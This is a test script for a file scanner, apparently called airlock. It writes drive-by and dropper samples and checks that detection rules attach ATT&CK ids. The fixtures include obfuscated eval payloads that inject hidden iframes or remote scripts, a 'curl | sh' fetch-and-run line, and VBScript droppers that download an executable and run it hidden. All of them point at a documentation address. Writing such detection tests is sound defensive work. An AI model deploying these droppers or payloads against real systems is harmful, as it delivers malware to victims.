#!/bin/sh
# Drive-by files caught by an obfuscation or dropper rule get the drive-by's id beside it
# (issue 16): an obfuscated eval appended to a library whose decoded text writes an iframe into
# the page (T1189), an obfuscated browser script that makes ActiveX objects (T1189), code appended
# on a library's last line (T1189; not in a Node script: a #! line, require('fs')), a page that
# makes a dropper's objects through an ActiveX control it created by class id (RDS.DataSpace,
# T1203). The notes are info findings: the verdict stays the base rule's. The same rules over a
# Node script, a WSH script, an HTML application and a VBScript dropper add no such id. Addresses are from the
# documentation ranges; nothing here is run.
. "$AIRLOCK_SRC/tests/lib.sh"
t=$TEST_TMPDIR
python3 - "$t" <<'PY'
import os, sys
t = sys.argv[1]
lib = "".join(
    "function mix%d(a, b) {\n  var s = 0;\n  for (var i = 0; i < a.length; i++) { s = (s * 31 + a[i] + b) %% 65521; }\n  return s;\n}\n" % k
    for k in range(2))
def codes(text):
    return "eval(String.fromCharCode(%s));\n" % ", ".join(str(ord(c)) for c in text)
def w(name, text):
    with open(os.path.join(t, name), "w") as f:
        f.write(text)
w("lib-iframe.js", lib + codes(
    "document.write('<iframe src=\"http://198.51.100.7/in\" width=1 height=1></iframe>');"))
w("lib-node.js", lib + codes(
    "var f = require('fs'); f.writeFileSync('/tmp/out', f.readFileSync('/etc/hostname'));"))
w("lib-wsh.js", lib + codes(
    "var x = new ActiveXObject('WScript.Shell'); x.Run('cmd /c whoami', 0);"))
obj = "".join("var %s = String.fromCharCode(%s);\n" % (
    "v%c%c%d" % (97 + k, 98 + k % 20, k), ", ".join(str(65 + (k * 7 + j) % 26) for j in range(24)))
    for k in range(30))
w("activex-page.js", obj +
  "var o = new ActiveXObject(vab0 + vbc1);\nif (navigator.userAgent) { document.title = o.version; }\n")
w("activex-wsf.js", obj + "var o = new ActiveXObject(vab0 + vbc1);\nvar r = o.version;\n")
# a library with code appended on its last line (ek5's edge rule), loaded by a page or run by Node
big = "".join(lib.replace("mix", "mix%d_" % k) for k in range(12))
edge = codes("var s = document.createElement('script'); s.src = 'http://198.51.100.7/j.js'; "
             "document.head.appendChild(s);")
w("edge-page.js", big + edge)
w("edge-node.js", "#!/usr/bin/env node\nvar fs = require('fs');\n" + big +
  codes("require('child_process').exec('curl -s http://198.51.100.7/x | sh', function () {});"))
w("activex-app.hta", "<script>\n" + obj + "var o = new ActiveXObject(vab0 + vbc1);\nvar r = o.version;\nwindow.close();\n</script>\n")
PY
cat >"$t/rds.htm" <<'EOF'
<html>
<script language="VBScript">
On Error Resume Next
u = "http://198.51.100.7/a.exe"
Set df = document.createElement("object")
df.setAttribute "classid", "clsid:BD96C556-65A3-11D0-983A-00C04FC29E36"
Set x = df.CreateObject("Microsoft.XMLHTTP", "")
Set s = df.CreateObject("ADODB.Stream", "")
x.Open "GET", u, False
x.Send
s.Type = 1
s.Open
s.Write x.responseBody
s.SaveToFile "c:\a.exe", 2
Set q = df.CreateObject("Shell.Application", "")
q.ShellExecute "c:\a.exe", "", "", "open", 0
</script>
<body>hello</body></html>
EOF
cat >"$t/dropper.vbs" <<'EOF'
Set x = CreateObject("Microsoft.XMLHTTP")
Set s = CreateObject("ADODB.Stream")
x.Open "GET", "http://198.51.100.7/a.exe", False
x.Send
s.Type = 1
s.Open
s.Write x.responseBody
s.SaveToFile "c:\a.exe", 2
Set q = WScript.CreateObject("WScript.Shell")
q.Run "c:\a.exe", 0
EOF
"$AIRLOCK" analyze --json --no-cache "$t"/lib-iframe.js "$t"/lib-node.js "$t"/lib-wsh.js \
        "$t"/activex-page.js "$t"/activex-wsf.js "$t"/activex-app.hta "$t"/rds.htm "$t"/dropper.vbs \
        "$t"/edge-page.js "$t"/edge-node.js \
        >"$t/report.json" 2>"$t/err"
expect_eq "analyze-exit-1" 1 $?
python3 - "$t/report.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
files = {f["name"]: f for f in r["files"]}
def rules(f):
    return {x["rule"]: x for x in f.get("findings", [])}
def check(name, base, note, want_id, present):
    f = files.get(name)
    if f is None:
        print("FAIL: ids-%s: not in the report" % name)
        return
    got = rules(f)
    ids = set(a for x in got.values() for a in x.get("attack") or [])
    why = []
    if base not in got:
        why.append("no %s (rules: %s)" % (base, ",".join(sorted(got))))
    if present:
        if note not in got or got[note].get("severity") != "info" or want_id not in ids:
            why.append("no info note %s with %s" % (note, want_id))
        # the note is info: the verdict is the one the other findings make alone
        if f["verdict"] == "clean":
            why.append("verdict clean")
    elif note in got or want_id in ids:
        why.append("%s or %s given" % (note, want_id))
    print("PASS: ids-%s" % name if not why else "FAIL: ids-%s: %s" % (name, "; ".join(why)))
check("lib-iframe.js", "jsshape_obfuscated_eval", "jsshape_obfuscated_eval_page_injection", "T1189", True)
check("lib-node.js", "jsshape_obfuscated_eval", "jsshape_obfuscated_eval_page_injection", "T1189", False)
check("lib-wsh.js", "jsshape_obfuscated_eval", "jsshape_obfuscated_eval_page_injection", "T1189", False)
check("activex-page.js", "jsshape_obfuscated_activex", "jsshape_obfuscated_activex_browser", "T1189", True)
check("activex-wsf.js", "jsshape_obfuscated_activex", "jsshape_obfuscated_activex_browser", "T1189", False)
check("activex-app.hta", "jsshape_obfuscated_activex", "jsshape_obfuscated_activex_browser", "T1189", False)
check("rds.htm", "wsh_dropper", "wsh_dropper_activex_control", "T1203", True)
check("dropper.vbs", "wsh_dropper", "wsh_dropper_activex_control", "T1203", False)
check("edge-page.js", "pageshape_script_obfuscated_edge", "pageshape_script_obfuscated_edge_page", "T1189", True)
check("edge-node.js", "pageshape_script_obfuscated_edge", "pageshape_script_obfuscated_edge_page", "T1189", False)
# the iframe note is info and makes no difference to the verdict: the library's verdict is what
# its other findings make, jsshape_obfuscated_eval (medium) and jsshape_script_decoded_injection
# (high: the one fromCharCode literal run whose code writes a hidden frame, a finding of its own
# since ek7), and lib-node.js, the same library whose literal writes no frame, stays suspicious
f = files.get("lib-iframe.js", {})
other = rules(f)
other.pop("jsshape_obfuscated_eval_page_injection", None)
high = any(x.get("severity") in ("high", "critical") for x in other.values())
want = "malicious" if high else "suspicious"
print("PASS: verdict-unchanged" if f.get("verdict") == want and
      "jsshape_script_decoded_injection" in other and
      files.get("lib-node.js", {}).get("verdict") == "suspicious" else
      "FAIL: verdict-unchanged: %s (other findings: %s; lib-node.js %s)" % (
          f.get("verdict"), ",".join(sorted(other)), files.get("lib-node.js", {}).get("verdict")))
PY
exit 0
